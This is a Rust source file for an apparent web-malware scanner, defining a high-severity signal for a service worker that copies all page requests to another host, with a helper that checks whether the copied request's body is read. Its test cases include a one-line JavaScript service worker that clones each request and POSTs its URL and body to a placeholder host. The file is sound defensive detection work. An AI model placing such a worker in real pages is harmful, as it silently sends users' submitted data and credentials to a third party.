//! `requests-copied-by-worker`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "requests-copied-by-worker",
    description: "A service worker copies all requests of this page to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::WorkerFetch]),
        one(&[Atom::RequestCopied]),
        one(&[Atom::SentAbroad]),
        one(&[Atom::PostMethod, Atom::Beacon]),
    ],
    within: 300,
    only_if: Some(reads_copy),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "self.addEventListener('fetch',e=>{const q=e.request.clone();q.text().then(b=>fetch('https://c.example/l',{method:'POST',body:JSON.stringify({u:q.url,b})}))})",
        ],
        without: &[
            "self.addEventListener('fetch',e=>{e.respondWith((async()=>{const r=await fetch(e.request.clone());fetch('https://log.example/w',{method:'POST',body:JSON.stringify({u:e.request.url,s:r.status})});return r})())})",
            "self.addEventListener('fetch',e=>{e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request.clone())))})",
        ],
    },
};

/// Whether what a request carries is read out of its copy: who notes how requests went leaves that alone.
fn reads_copy(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 20);
    let is_read = |at: usize| near.kind(at) == Some(Kind::Member) && BODY.contains(&near.word(at));
    near.words(&["clone"]).filter(|at| near.has_fact_in(*at..at + 1, &[Atom::RequestCopied])).any(|at| {
        near.is(at + 1, b'(') && is_read(at + 3)
            || near.put_into(at).is_some_and(|name| near.same_value(name).any(|at| is_read(at + 1)))
    })
}

const BODY: &[&str] = &["text", "json", "formData", "arrayBuffer", "blob", "body", "headers"];
